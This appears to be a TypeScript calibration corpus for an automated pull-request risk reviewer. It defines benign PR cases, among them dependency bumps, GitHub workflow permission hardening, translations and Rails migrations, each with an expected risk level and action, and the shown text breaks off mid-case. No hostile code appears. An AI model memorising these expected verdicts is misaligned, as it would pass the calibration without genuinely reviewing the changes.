        base: `${JSON.stringify({ releases: Array.from({ length: 120 }, (_, i) => ({ tag: `2025${String(i).padStart(4, '0')}`, sha256: `${String(i).padStart(2, '0')}${'a'.repeat(62)}` })) }, null, 2)}\n`,
        head: `${JSON.stringify({ releases: Array.from({ length: 140 }, (_, i) => ({ tag: `2025${String(i).padStart(4, '0')}`, sha256: `${String(i).padStart(2, '0')}${'b'.repeat(62)}` })) }, null, 2)}\n`,
      },
    ],
    checks: GREEN_PY,
    commits: [botCommit('[Bot] Update dependencies', 'atlas-updater[bot]', 100200300)],
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['author-trust'] },
  }),
  pr({
    id: 'cal-member-rename-with-tests',
    description: 'A member renames a module and updates its imports and tests; CI green.',
    repo: 'atlas',
    title: 'refactor: rename util/strings to text/normalize',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'src/text/normalize.ts', previousPath: 'src/util/strings.ts', status: 'renamed', additions: 3, deletions: 3 },
      { path: 'src/search/index.ts', additions: 1, deletions: 1 },
      { path: 'src/reports/report-page.tsx', additions: 1, deletions: 1 },
      { path: 'src/text/normalize.test.ts', previousPath: 'src/util/strings.test.ts', status: 'renamed', additions: 1, deletions: 1 },
    ],
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-contributor-python-bugfix',
    description: 'A regular contributor fixes timezone handling in a Python parser with a regression test; CI green.',
    repo: 'pyatlas',
    title: 'Fix naive datetimes in parse_timestamp',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      { path: 'pyatlas/timestamps.py', additions: 6, deletions: 2 },
      { path: 'tests/test_timestamps.py', additions: 18, deletions: 0 },
    ],
    checks: GREEN_PY,
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-imgbot-optimize',
    description: 'imgbot[bot] losslessly compresses the documentation screenshots; CI green.',
    repo: 'atlas',
    title: '[ImgBot] Optimize images',
    author: { login: 'imgbot[bot]', association: 'CONTRIBUTOR', createdAt: '2018-01-01T00:00:00Z' },
    files: [
      { path: 'docs/images/dashboard.png', patch: null, additions: 0, deletions: 0 },
      { path: 'docs/images/export-dialog.png', patch: null, additions: 0, deletions: 0 },
    ],
    commits: [botCommit('[ImgBot] Optimize images', 'imgbot[bot]', 31427850)],
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-lint-config-tweak',
    description: 'A maintainer turns on one more lint rule and fixes the two places it flags; CI green.',
    repo: 'atlas',
    title: 'lint: enable no-floating-promises',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'eslint.config.js', additions: 1, deletions: 0 },
      { path: 'src/net/retry.ts', additions: 1, deletions: 1 },
      { path: 'src/reports/report-page.tsx', additions: 1, deletions: 1 },
    ],
    expect: { level: 'low', action: 'approve', noFindings: true },
  }),
  pr({
    id: 'cal-token-permissions-hardening',
    description:
      'A maintainer adds minimal GITHUB_TOKEN permissions to a pull_request_target size-labeler workflow that ran on the default token: contents: read for the workflow, pull-requests: write for the one job; CI green.',
    repo: 'ring',
    title: 'ci: add minimum GitHub token permissions for workflows',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/size-labeler.yml',
        base: lines('name: size-labeler', 'on: [pull_request_target]', 'jobs:', '  size:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: sizebot-dev/pr-size-tagger@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v1.8.1', '        with:', '          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}', "          max_size: '200'"),
        head: lines('name: size-labeler', 'on: [pull_request_target]', 'permissions:', '  contents: read', 'jobs:', '  size:', '    permissions:', '      pull-requests: write  # to label the PR', '    runs-on: ubuntu-latest', '    steps:', '      - uses: sizebot-dev/pr-size-tagger@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v1.8.1', '        with:', '          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}', "          max_size: '200'"),
      },
    ],
    checks: GREEN_GO,
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
  }),
  pr({
    id: 'cal-token-permissions-every-workflow',
    description:
      'A maintainer adds `permissions: contents: read` to each of five workflows that ran on the default token (tests, lint, docs, stale, a labeler job that keeps pull-requests: write); nothing else changes; CI green. Each file is read clean; five of them are one edit repeated.',
    repo: 'ring',
    title: 'ci: add minimum GitHub token permissions for workflows',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: (['test', 'lint', 'docs', 'stale', 'labeler'] as const).map((name) => {
      const job = name === 'stale' ? ['      - uses: actions/stale@v9', '        with:', '          days-before-stale: 60'] : name === 'labeler' ? ['      - uses: actions/labeler@v5'] : ['      - uses: actions/checkout@v4', `      - run: make ${name}`];
      const trigger = name === 'stale' ? ['on:', '  schedule:', "    - cron: '0 3 * * *'"] : ['on: [push, pull_request]'];
      const jobPermissions = name === 'labeler' ? ['    permissions:', '      contents: read', '      pull-requests: write  # to add labels'] : name === 'stale' ? ['    permissions:', '      issues: write', '      pull-requests: write'] : [];
      return {
        path: `.github/workflows/${name}.yml`,
        base: lines(`name: ${name}`, ...trigger, 'jobs:', `  ${name}:`, '    runs-on: ubuntu-latest', '    steps:', ...job),
        head: lines(`name: ${name}`, ...trigger, 'permissions:', '  contents: read', 'jobs:', `  ${name}:`, ...jobPermissions, '    runs-on: ubuntu-latest', '    steps:', ...job),
      };
    }),
    checks: GREEN_GO,
    expect: { ...LOW_APPROVE, absentDrivers: ['finding:gha-excessive-permissions'] },
  }),
  pr({
    id: 'cal-rustfmt-wraps-lint-attribute',
    description:
      "A maintainer runs a newer nightly rustfmt, which wraps the crate root's long `#![allow(…)]` list one lint a line; nothing else changes; CI green. The lint names are the same: layout, not logic.",
    repo: 'ring',
    title: 'Format with rustfmt 1.9.0-nightly',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'ring-core/src/lib.rs',
        base: lines('//! Core traits of the ring serializer.', '#![cfg_attr(feature = "unstable", feature(never_type))]', '#![allow(unknown_lints, bare_trait_objects, deprecated, elided_named_lifetimes)]', '#![no_std]', '', 'pub mod de;', 'pub mod ser;'),
        head: lines('//! Core traits of the ring serializer.', '#![cfg_attr(feature = "unstable", feature(never_type))]', '#![allow(', '    unknown_lints,', '    bare_trait_objects,', '    deprecated,', '    elided_named_lifetimes', ')]', '#![no_std]', '', 'pub mod de;', 'pub mod ser;'),
      },
    ],
    checks: GREEN_RUST,
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-example-major-bump',
    description: 'A maintainer moves one example program of a Rust web framework to the next 0.x release of its template engine; the library itself is untouched; CI green.',
    repo: 'ring',
    title: 'examples: Update to templater 0.16',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'examples/templates/Cargo.toml',
        base: lines('[package]', 'name = "example-templates"', 'version = "0.1.0"', 'edition = "2021"', 'publish = false', '', '[dependencies]', 'ring-web = { path = "../../ring-web" }', 'templater = "0.15"', 'tokio = { version = "1.0", features = ["full"] }'),
        head: lines('[package]', 'name = "example-templates"', 'version = "0.1.0"', 'edition = "2021"', 'publish = false', '', '[dependencies]', 'ring-web = { path = "../../ring-web" }', 'templater = "0.16"', 'tokio = { version = "1.0", features = ["full"] }'),
      },
      { path: 'examples/templates/src/main.rs', additions: 2, deletions: 2 },
    ],
    checks: GREEN_RUST,
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-first-timer-readme-example',
    description: 'A first-time contributor (account 6 years old) corrects a code sample in the README; CI green.',
    repo: 'ring',
    title: 'README: fix the NewBuffer example',
    author: { login: 'gopher-ana', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2020-05-05T00:00:00Z' },
    files: [{ path: 'README.md', additions: 2, deletions: 2 }],
    checks: GREEN_GO,
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true, absentRecommendations: ['verify-contributor', 'security-review'] },
  }),
];

// ---------------------------------------------------------------------------------------------
// Shapes from the histories of Python, Ruby and PHP projects (2026-11-28)

const DEV_ENV_BASE = lines(
  '# Tooling is pinned; the package itself is installed from pyproject.toml.',
  '-e .[brotli,cli,http2]',
  '',
  'mkdocs==1.6.1',
  'build==1.3.0',
  'pytest==7.4.4',
  'ruff==0.12.11',
);

const COOKIE_DEFAULTS = (aligned: boolean): string =>
  lines(
    '<?php',
    '',
    'namespace Northwind\\Http\\Cookie;',
    '',
    'final class CookieDefaults',
    '{',
    '    public const VALUES = [',
    aligned ? "        'Path'     => '/'," : "        'Path' => '/',",
    aligned ? "        'Secure'   => false," : "        'Secure' => false,",
    aligned ? "        'HttpOnly' => false" : "        'HttpOnly' => false,",
    '    ];',
    '}',
  );

const REAL_HISTORY_CASES: CorpusEntry[] = [
  pr({
    id: 'cal-dependabot-dev-env-major',
    description: 'Dependabot bumps pytest 7 -> 8 in a requirements.txt that installs the project itself (-e .[extras]) and pins the tooling: a development environment, not what users install; CI green.',
    repo: 'pyatlas',
    title: 'Bump the python-packages group with 2 updates',
    author: DEPENDABOT,
    files: [{ path: 'requirements.txt', base: DEV_ENV_BASE, head: DEV_ENV_BASE.replace('pytest==7.4.4', 'pytest==8.4.1').replace('ruff==0.12.11', 'ruff==0.13.0') }],
    commits: [botCommit('Bump the python-packages group with 2 updates', 'dependabot[bot]', 49699333)],
    checks: GREEN_PY,
    extra: { headBranch: 'dependabot/pip/python-packages-1a2b3c', labels: ['dependencies'] },
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-php-code-style-pass',
    description: 'A maintainer runs the code-style fixer: option arrays realigned, trailing commas added; the cookie defaults (Secure and HttpOnly off until the caller sets them) only move; CI green.',
    repo: 'httpkit',
    title: 'Apply the new code style',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [{ path: 'src/Cookie/CookieDefaults.php', base: COOKIE_DEFAULTS(true), head: COOKIE_DEFAULTS(false) }],
    checks: GREEN_PHP,
    // No finding: the realigned `'Secure' => false` is the base's line. The cookie path still weighs
    // as a sensitive path (a trailing comma is a token, not whitespace), so medium is accepted.
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
  }),
  // Shapes from the 2026-11-28 replay of eleven more repositories' histories (Go, Rust, Python,
  // Ruby, Java, C, JavaScript, Terraform and Helm projects); names, code and numbers are made up.
  pr({
    id: 'cal-persian-translation-zwnj',
    description: 'A maintainer adds Persian messages to a .properties bundle; Persian words hold zero-width non-joiners (U+200C) between letters, and .properties values are not quoted; CI green.',
    repo: 'clinic',
    title: 'Add Persian translations for the error page',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'src/main/resources/messages/messages_fa.properties',
        base: lines('welcome=\u062e\u0648\u0634 \u0622\u0645\u062f\u06cc\u062f', 'required=\u0627\u0644\u0632\u0627\u0645\u06cc'),
        head: lines(
          'welcome=\u062e\u0648\u0634 \u0622\u0645\u062f\u06cc\u062f',
          'required=\u0627\u0644\u0632\u0627\u0645\u06cc',
          'error.notFound=\u0635\u0641\u062d\u0647 \u067e\u06cc\u062f\u0627 \u0646\u0645\u06cc\u200c\u0634\u0648\u062f',
          'owners=\u0645\u0627\u0644\u06a9\u200c\u0647\u0627',
        ),
      },
    ],
    checks: GREEN_JVM,
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-title-code-span-command',
    description: 'A maintainer titles a fix "Do not trigger a `BytesWarning` under `python -bb`": a Markdown code span naming a command and its option; no base workflow puts the title in a script; CI green.',
    repo: 'clicky',
    title: 'Do not trigger a `BytesWarning` under `python -bb`',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'src/clicky/types.py', base: lines('def convert(value):', '    return str(value)'), head: lines('def convert(value):', '    if isinstance(value, bytes):', '        return value.decode()', '    return str(value)') },
      { path: 'tests/test_types.py', base: lines('def test_convert():', '    assert convert(1) == "1"'), head: lines('def test_convert():', '    assert convert(1) == "1"', '', '', 'def test_convert_bytes():', '    assert convert(b"x") == "x"') },
    ],
    checks: GREEN_PY,
    extra: { baseFiles: { '.github/workflows/tests.yml': lines('name: tests', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v5', '      - run: pytest') } },
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-fix-commits-with-style-commit',
    description: 'A maintainer fixes a parser regression in three commits: the fix, tests, then "style(test): Format it"; the title announces the fix, so the style commit claims nothing for the PR; CI green.',
    repo: 'argkit',
    title: 'fix(parser): Stop at the terminator after the last value',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'src/parser.rs',
        base: lines('fn next_value(&mut self) -> Option<&str> {', '    if self.pos >= self.len { return None; }', '    self.take()', '}'),
        head: lines('fn next_value(&mut self) -> Option<&str> {', '    if self.pos >= self.len || self.at_terminator() { return None; }', '    self.take()', '}'),
      },
      { path: 'tests/parser.rs', base: lines('#[test]', 'fn values() {}'), head: lines('#[test]', 'fn values() {}', '', '#[test]', 'fn terminator_after_last() {', '    assert!(parse(&["a", ";"]).is_ok());', '}') },
    ],
    commits: [{ message: 'fix(parser): Stop at the terminator after the last value' }, { message: 'test(parser): Cover the terminator after the last value' }, { message: 'style(test): Format it' }],
    checks: GREEN_RUST,
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-autoconf-message-names-curl',
    description: 'A regular contributor rewords an Autoconf option message of a project named after curl ("whether to enable curl debug features"); nothing is downloaded; CI green.',
    repo: 'libfetch',
    title: 'build: clarify the --enable-debug message',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      {
        path: 'm4/fetch-confopts.m4',
        base: lines('AC_DEFUN([FETCH_CHECK_OPTION_DEBUG], [', '  AC_MSG_CHECKING([whether to enable debug build options])', '  AC_ARG_ENABLE(debug,', 'AS_HELP_STRING([--enable-debug],[Enable debug build options]),', '  OPT_DEBUG=$enableval)', '])'),
        head: lines('AC_DEFUN([FETCH_CHECK_OPTION_DEBUG], [', '  AC_MSG_CHECKING([whether to enable curl debug features (for developing curl)])', '  AC_ARG_ENABLE(debug,', 'AS_HELP_STRING([--enable-debug],[Enable curl debug features (see https://curl.example/dev)]),', '  OPT_DEBUG=$enableval)', '])'),
      },
    ],
    checks: [{ name: 'linux (autotools)' }, { name: 'macos (cmake)' }],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
  }),
  pr({
    id: 'cal-example-file-emptied',
    description: 'A maintainer empties an example\'s outputs.tf (every output moved to the README) without removing the file: its one hunk is "@@ -1,3 +0,0 @@"; CI green.',
    repo: 'tf-cluster',
    title: 'docs: drop the outputs of the minimal example',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'examples/minimal/outputs.tf', base: lines('output "cluster_name" {', '  value = module.cluster.name', '}'), head: '' },
      { path: 'examples/minimal/README.md', base: lines('# Minimal'), head: lines('# Minimal', '', 'See the module outputs for the cluster name.') },
    ],
    checks: [{ name: 'pre-commit' }, { name: 'validate' }],
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-compose-database-image-bump',
    description: 'A maintainer bumps the database images of the development docker-compose.yml (postgres 16.2 -> 16.3, mysql 8.3 -> 8.4); nothing else changes; CI green.',
    repo: 'clinic',
    title: 'Update docker-compose.yml database images',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'docker-compose.yml',
        base: lines('services:', '  mysql:', '    image: mysql:8.3', '    ports:', '      - "3306:3306"', '  postgres:', '    image: postgres:16.2', '    ports:', '      - "5432:5432"'),
        head: lines('services:', '  mysql:', '    image: mysql:8.4', '    ports:', '      - "3306:3306"', '  postgres:', '    image: postgres:16.3', '    ports:', '      - "5432:5432"'),
      },
    ],
    checks: GREEN_JVM,
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-ci-database-service-tags-moved',
    description: 'A maintainer moves the database test jobs to current MySQL releases: the mysql:8 service becomes mysql:8.4 and a job for mysql:9.7 is copied from it, same steps (modeled on a PHP framework testing on MySQL 9.7 LTS); CI green. The images were tagged, not pinned, before as after.',
    repo: 'clinic',
    title: 'Test on MySQL 9.7 (LTS)',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/databases.yml',
        base: lines('name: databases', 'on:', '  push:', '  pull_request:', 'permissions:', '  contents: read', 'jobs:', '  mysql_8:', '    runs-on: ubuntu-24.04', '    services:', '      mysql:', '        image: mysql:8', '        env:', '          MYSQL_DATABASE: app', '    steps:', '      - uses: actions/checkout@v4', '      - run: composer install', '      - run: vendor/bin/phpunit tests/Integration/Database'),
        head: lines('name: databases', 'on:', '  push:', '  pull_request:', 'permissions:', '  contents: read', 'jobs:', '  mysql_84:', '    runs-on: ubuntu-24.04', '    services:', '      mysql:', '        image: mysql:8.4', '        env:', '          MYSQL_DATABASE: app', '    steps:', '      - uses: actions/checkout@v4', '      - run: composer install', '      - run: vendor/bin/phpunit tests/Integration/Database', '  mysql_97:', '    runs-on: ubuntu-24.04', '    services:', '      mysql:', '        image: mysql:9.7', '        env:', '          MYSQL_DATABASE: app', '    steps:', '      - uses: actions/checkout@v4', '      - run: composer install', '      - run: vendor/bin/phpunit tests/Integration/Database'),
      },
    ],
    checks: [{ name: 'mysql_84' }, { name: 'mysql_97' }],
    expect: { ...LOW_APPROVE },
  }),
  pr({
    id: 'cal-newcomer-page-counted-as-code-by-linguist',
    description: 'A first-time contributor adds a command page (pages/common/terraform-fmt.md) to a repository of Markdown pages whose .gitattributes marks them linguist-documentation=false, so GitHub counts them in its language statistics; CI green.',
    repo: 'cheatpages',
    title: 'terraform fmt: add page',
    author: { login: 'pagewriter', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2020-02-02T00:00:00Z' },
    files: [{ path: 'pages/common/terraform-fmt.md', head: lines('# terraform fmt', '', '> Format configuration files.', '', '- Format the current directory:', '', '`terraform fmt`') }],
    checks: [{ name: 'lint pages' }],
    extra: { baseFiles: { '.gitattributes': lines('* text=auto eol=lf', 'pages*/**/*.md linguist-detectable=true', 'pages*/**/*.md linguist-documentation=false') } },
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true, absentDrivers: ['sensitive-paths'] },
  }),
  pr({
    id: 'cal-slash-command-bot-scope',
    description: 'A maintainer lets the slash-command workflow (issue_comment, a pinned third-party bot action that takes the job token through its input default) act on pull requests too: pull-requests: write beside issues: write; CI green.',
    repo: 'confkit',
    title: 'allow slash commands on PRs',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/slash.yaml',
        base: lines('name: Slash', '', 'on: issue_comment', '', 'permissions:', '  issues: write', '  # pull-requests: write', '', 'jobs:', '  run:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - uses: slashbot/slash-action@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v0.4.1'),
        head: lines('name: Slash', '', 'on: issue_comment', '', 'permissions:', '  issues: write', '  pull-requests: write', '', 'jobs:', '  run:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - uses: slashbot/slash-action@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v0.4.1'),
      },
    ],
    checks: [{ name: 'test' }],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-excessive-permissions'] },
  }),
  pr({
    id: 'cal-format-library-feature-title',
    description: 'A maintainer of a C++ formatting library teaches the error formatter to print nested errors, with tests; the title starts with "Format", the feature, not a formatting claim; CI green.',
    repo: 'strfmt',
    title: 'Format nested errors in the error formatter',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'include/strfmt/error.h',
        base: lines('template <typename Context>', 'auto format(const error& e, Context& ctx) const -> decltype(ctx.out()) {', '  auto out = ctx.out();', '  return write_message(out, e);', '}'),
        head: lines('template <typename Context>', 'auto format(const error& e, Context& ctx) const -> decltype(ctx.out()) {', '  return write_chain(ctx.out(), e);', '}', '', 'template <typename OutputIt>', 'auto write_chain(OutputIt out, const error& e) const -> OutputIt {', '  out = write_message(out, e);', '  if (const auto* inner = e.cause()) out = write_chain(write_separator(out), *inner);', '  return out;', '}'),
      },
      { path: 'test/error-test.cc', base: lines('TEST(error_test, message) {}'), head: lines('TEST(error_test, message) {}', 'TEST(error_test, nested) {', '  EXPECT_EQ(strfmt::format("{}", outer_error()), "outer: inner");', '}') },
    ],
    checks: [{ name: 'linux (gcc)' }, { name: 'linux (clang)' }, { name: 'windows (msvc)' }],
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-python-docstring-paragraph-with-links',
    description: 'A regular contributor adds a troubleshooting page and, deep inside a long docstring (the diff shows neither triple quote), a paragraph with Markdown links to it above "Args:"; CI green.',
    repo: 'modelkit',
    title: 'docs: add a troubleshooting guide for validation errors',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      {
        path: 'modelkit/model.py',
        base: lines('class Model:', '    def validate(self, data, strict=None):', '        """Validate data against the model.', '', '        The data is checked field by field, in the order the fields', '        are declared, and every error is collected before one', '        exception is raised for all of them.', '', '        Nested models are validated the same way, each one', '        with the settings of its own class.', '', '        Args:', '            data: The data to validate.', '            strict: Whether to refuse conversions.', '        """', '        return self._validator.run(data, strict)'),
        head: lines('class Model:', '    def validate(self, data, strict=None):', '        """Validate data against the model.', '', '        The data is checked field by field, in the order the fields', '        are declared, and every error is collected before one', '        exception is raised for all of them.', '', '        Nested models are validated the same way, each one', '        with the settings of its own class.', '', '        A failed validation shows [`ValidationError`][modelkit.ValidationError] with the fields', '        it rejected; see [Troubleshooting](../errors/troubleshooting.md) for finding the input.', '', '        Args:', '            data: The data to validate.', '            strict: Whether to refuse conversions.', '        """', '        return self._validator.run(data, strict)'),
      },
      { path: 'docs/errors/troubleshooting.md', head: lines('# Troubleshooting validation errors', '', 'Log the input next to the error to see what was rejected.') },
    ],
    checks: GREEN_PY,
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
  pr({
    id: 'cal-go-nolint-comments',
    description: 'A maintainer silences a security linter with trailing //nolint comments on an existing exec.Command(os.Args[0], ...) that starts the binary itself and on an HTTP call; the code is unchanged; CI green.',
    repo: 'webserve',
    title: 'chore: add nolint comments for gosec',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'cmd/start.go',
        base: lines('func start(addr string) error {', '\t// start the server as a child process and wait for it to report back', '\tcmd := exec.Command(os.Args[0], "run", "--pingback", addr)', '\tcmd.Stdout = os.Stdout', '\treturn cmd.Start()', '}', '', 'func call(client *http.Client, req *http.Request) error {', '\tresp, err := client.Do(req)', '\tif err != nil {', '\t\treturn err', '\t}', '\treturn resp.Body.Close()', '}'),
        head: lines('func start(addr string) error {', '\t// start the server as a child process and wait for it to report back', '\tcmd := exec.Command(os.Args[0], "run", "--pingback", addr) //nolint:gosec // our own binary', '\tcmd.Stdout = os.Stdout', '\treturn cmd.Start()', '}', '', 'func call(client *http.Client, req *http.Request) error {', '\tresp, err := client.Do(req) //nolint:gosec // the admin endpoint is configured by the operator', '\tif err != nil {', '\t\treturn err', '\t}', '\treturn resp.Body.Close()', '}'),
      },
    ],
    checks: GREEN_GO,
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-renovate-action-moved-within-owner',
    description: "Renovate moves a build tool's setup action, followed by tag, to the same owner's new actions repository (buildtool/buildtool-setup-action@v2 -> buildtool/actions/setup@v3); CI green.",
    repo: 'httpclient',
    title: 'Update buildtool/buildtool-setup-action action to v3',
    author: RENOVATE,
    priorPrs: { total: 240, merged: 228 },
    files: [
      {
        path: '.github/workflows/build.yml',
        base: lines('name: build', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: actions/setup-java@v4', '        with:', '          distribution: zulu', '          java-version: 21', '      - uses: buildtool/buildtool-setup-action@v2', '      - run: ./buildw build'),
        head: lines('name: build', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: actions/setup-java@v4', '        with:', '          distribution: zulu', '          java-version: 21', '      - uses: buildtool/actions/setup@v3', '      - run: ./buildw build'),
      },
    ],
    commits: [botCommit('Update buildtool/buildtool-setup-action action to v3', 'renovate[bot]', 29139614)],
    checks: GREEN_JVM,
    expect: { level: 'low', action: ['approve', 'comment'] },
  }),
  pr({
    id: 'cal-provider-schema-descriptions-docs',
    description: "A maintainer of a Terraform provider documents a resource: Description fields added to its schema (the text the provider's docs are generated from, one continued over a + line), gofmt realigning the fields beside them, and the generated page; no attribute, type or default changes; CI green.",
    repo: 'terraform-provider-orgtool',
    title: 'docs: Update team members resource docs',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'orgtool/resource_team_members.go',
        base: lines('func resourceTeamMembers() *schema.Resource {', '\treturn &schema.Resource{', '\t\tSchema: map[string]*schema.Schema{', '\t\t\t"team_id": {', '\t\t\t\tType:     schema.TypeString,', '\t\t\t\tRequired: true,', '\t\t\t},', '\t\t\t"role": {', '\t\t\t\tType:     schema.TypeString,', '\t\t\t\tOptional: true,', '\t\t\t\tDefault:  "member",', '\t\t\t},', '\t\t},', '\t}', '}'),
        head: lines('func resourceTeamMembers() *schema.Resource {', '\treturn &schema.Resource{', '\t\tDescription: "Manages the members of a team.",', '\t\tSchema: map[string]*schema.Schema{', '\t\t\t"team_id": {', '\t\t\t\tType:        schema.TypeString,', '\t\t\t\tRequired:    true,', '\t\t\t\tDescription: "The ID or slug of the team.",', '\t\t\t},', '\t\t\t"role": {', '\t\t\t\tType:        schema.TypeString,', '\t\t\t\tOptional:    true,', '\t\t\t\tDefault:     "member",', '\t\t\t\tDescription: "The role of the members: `member` or `maintainer`. " +', '\t\t\t\t\t"Defaults to `member`.",', '\t\t\t},', '\t\t},', '\t}', '}'),
      },
      { path: 'docs/resources/team_members.md', base: lines('# orgtool_team_members'), head: lines('# orgtool_team_members', '', 'Manages the members of a team.', '', '- `team_id` (Required) The ID or slug of the team.', '- `role` (Optional) The role of the members. Defaults to `member`.') },
    ],
    checks: GREEN_GO,
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-rails-foreign-key-not-valid',
    description: 'A maintainer adds a foreign key the zero-downtime way: one migration adds it with validate: false (NOT VALID), a second validates it; CI green.',
    repo: 'shopfront',
    title: 'Add a foreign key from orders to customers',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'db/migrate/20261120093000_add_orders_customer_fk.rb', head: lines('class AddOrdersCustomerFk < ActiveRecord::Migration[8.0]', '  def change', '    add_foreign_key :orders, :customers, validate: false', '  end', 'end') },
      { path: 'db/migrate/20261120093100_validate_orders_customer_fk.rb', head: lines('class ValidateOrdersCustomerFk < ActiveRecord::Migration[8.0]', '  def change', '    validate_foreign_key :orders, :customers', '  end', 'end') },
      { path: 'db/schema.rb', base: lines('ActiveRecord::Schema[8.0].define(version: 2026_11_01_120000) do', 'end'), head: lines('ActiveRecord::Schema[8.0].define(version: 2026_11_20_093100) do', '  add_foreign_key "orders", "customers"', 'end') },
    ],
    checks: GREEN_RUBY,
    // Migrations are sensitive paths (docs/signal.md): medium and a comment without any finding.
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
  }),
  pr({
    id: 'cal-provider-flatten-negated-flag',
    description: "A regular contributor fixes a provider's flattening of a ruleset: a field the API leaves out is written as do_not_enforce_on_create = false (enforcement stays on), with a test; CI green.",
    repo: 'terraform-provider-orgtool',
    title: 'Fix a panic when the API leaves out do_not_enforce_on_create',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      {
        path: 'orgtool/util_rulesets.go',
        base: lines('func flattenStatusChecks(rules *api.StatusChecks) map[string]any {', '\tchecks := map[string]any{"strict": rules.Strict}', '\tchecks["do_not_enforce_on_create"] = *rules.DoNotEnforceOnCreate', '\treturn checks', '}'),
        head: lines('func flattenStatusChecks(rules *api.StatusChecks) map[string]any {', '\tchecks := map[string]any{"strict": rules.Strict}', '\tif rules.DoNotEnforceOnCreate != nil {', '\t\tchecks["do_not_enforce_on_create"] = *rules.DoNotEnforceOnCreate', '\t} else {', '\t\tchecks["do_not_enforce_on_create"] = false', '\t}', '\treturn checks', '}'),
      },
      { path: 'orgtool/util_rulesets_test.go', base: lines('package orgtool'), head: lines('package orgtool', '', 'func TestFlattenStatusChecksWithoutField(t *testing.T) {', '\tif flattenStatusChecks(&api.StatusChecks{})["do_not_enforce_on_create"] != false {', '\t\tt.Fatal("want false")', '\t}', '}') },
    ],
    checks: GREEN_GO,
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-go-docs-module-local-replace',
    description: "A maintainer of a Go CLI library gives its documentation's tested examples their own module: docs/go.mod requires the library and replaces it with ../ (the code beside it), plus an example test; CI green.",
    repo: 'flagkit',
    title: 'Move the docs examples into their own module',
